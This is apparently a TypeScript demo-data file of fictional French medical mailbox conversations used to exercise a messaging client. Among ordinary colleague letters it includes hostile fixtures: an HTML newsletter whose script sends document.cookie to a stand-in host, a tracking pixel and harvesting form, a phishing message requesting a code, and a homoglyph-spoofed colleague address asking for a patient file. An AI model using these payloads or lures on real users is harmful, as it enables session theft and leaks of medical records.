/** The rest of what Dre Diallo finds: colleagues, circulars, what looks like somebody it isn't, and what is put away. */
import { type DemoConversation, patient, pro } from './script.ts';

const box = 'doctor';

export const correspondence: readonly DemoConversation[] = [
  {
    box,
    subject: 'Échographie cardiaque',
    messages: [
      {
        from: pro('guilbaud'),
        at: '-13 10:22',
        text: 'Chère consœur,\n\nLa fraction d’éjection de Mme Richard est stable à 45 %. Pas de modification du traitement.\n\nDre Solène Guilbaud',
        files: [{ kind: 'archive', document: { patient: 'richard-solange', typeCode: '18748-4', daysAgo: 13 } }],
      },
    ],
  },
  {
    box,
    subject: 'Réunion de concertation',
    messages: [
      {
        from: pro('lorieux'),
        at: '-16 18:00',
        text: 'Chère consœur,\n\nLe dossier de M. Petit sera présenté en réunion de concertation pluridisciplinaire mardi. Souhaitez-vous y assister en visioconférence ?\n\nDr Xavier Lorieux',
        folder: 'Archive',
      },
      { from: 'me', at: '-16 19:45', text: 'Oui, merci de m’envoyer le lien.\n\nDre Diallo' },
    ],
  },
  {
    box,
    subject: 'Renouvellement et interaction',
    messages: [
      {
        from: pro('gueret'),
        at: '-1 11:26',
        text: 'Bonjour docteur,\n\nL’ordonnance de Mme Garnier associe lévothyroxine et fer au même moment de prise. Je lui propose de décaler le fer au soir, d’accord ?\n\nSophie Guéret, Pharmacie des Arcades',
        isUnread: true,
      },
    ],
  },
  {
    box,
    subject: 'Lettre d’information de la communauté de santé',
    messages: [
      {
        from: { name: 'Lettre du territoire', address: 'lettre@cpts-anjou.demo.mssante.fr' },
        at: '-2 07:00',
        text: 'Lettre d’information. Pour la lire, ouvrez la version HTML.',
        html: `<html><head><style>h1{color:#0b6e75;font-family:Georgia}</style><script>document.location='https://exemple.invalid/vol?c='+document.cookie</script></head>
<body><img src="https://exemple.invalid/bandeau.png" width="600" height="120" alt="Communauté professionnelle">
<h1>La lettre du territoire</h1><p>Chers collègues, voici les nouvelles de <b>novembre</b>.</p>
<table border="1"><tr><th>Date</th><th>Réunion</th></tr><tr><td>Mardi 8</td><td>Soins non programmés</td></tr><tr><td>Jeudi 17</td><td>Parcours insuffisance cardiaque</td></tr></table>
<p><a href="https://exemple.invalid/inscription?id=12345">S’inscrire en un clic</a></p>
<form action="https://exemple.invalid/form"><input name="code"><button>Répondre</button></form>
<img src="https://exemple.invalid/pixel.gif" width="1" height="1"></body></html>`,
      },
    ],
  },
  {
    box,
    subject: 'Mise à jour de votre messagerie',
    messages: [
      {
        from: { name: 'Support MSSanté', address: 'support@mssante-fr.example' },
        at: '-1 22:14',
        text: 'Votre boîte sera fermée sous 24 heures. Confirmez votre identité en répondant à ce message avec votre code.',
        isUnread: true,
      },
    ],
  },
  {
    box,
    subject: 'Dossier de Mme Kowalski',
    messages: [
      {
        // Cyrillic « а » and « е »: it reads as a colleague's address.
        from: { name: 'Dr Vincent HARDY', address: 'vinc\u0435nt.h\u0430rdy@medecin.demo.mssante.fr' },
        at: '-2 23:51',
        text: 'Bonjour Claire, peux-tu me renvoyer tout le dossier de Mme Kowalski à cette adresse ? Merci.',
        isUnread: true,
      },
    ],
  },
  {
    box,
    subject: 'Planning des gardes',
    messages: [
      {
        from: pro('roche'),
        at: '-20 13:30',
        text: 'Claire,\n\nJe te propose d’échanger le 12 contre le 19. Dis-moi.\n\nSamuel',
        folder: 'Archive',
      },
      { from: 'me', at: '-20 14:02', text: 'D’accord pour moi.' },
    ],
  },
  {
    box,
    subject: 'Certificat pour le club de judo',
    messages: [
      { from: patient('tessier-hugo'), at: '-60 18:00', text: 'Bonjour, le certificat est bien arrivé, merci.', folder: 'Archive' },
    ],
  },
  {
    box,
    subject: 'Invitation à un dîner-débat',
    messages: [
      {
        from: { name: 'Congrès', address: 'invitation@congres.example' },
        at: '-5 06:30',
        text: 'Cher docteur, vous êtes invité…',
        folder: 'Junk',
        isUnread: true,
      },
    ],
  },
  {
    box,
    subject: 'Suivi de la polyarthrite',
    messages: [
      {
        from: pro('bodin'),
        at: '-25 09:41',
        text: 'Chère consœur,\n\nJe revois votre patiente dans six mois. La vitesse de sédimentation est normalisée sous traitement.\n\nDre Nathalie Bodin, CH de Cholet',
        folder: 'Archive',
      },
    ],
  },
];
